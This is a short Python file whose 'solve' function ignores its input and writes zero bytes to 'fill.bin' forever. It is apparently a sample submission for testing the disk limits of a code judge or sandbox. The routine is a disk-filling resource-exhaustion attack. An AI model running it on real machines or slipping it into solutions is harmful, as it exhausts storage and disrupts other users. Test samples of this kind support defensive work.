"""Writes one ever-growing file in its working directory."""


def solve(n):
    with open("fill.bin", "wb") as f:
        while True:
            f.write(b"\0" * (1 << 20))
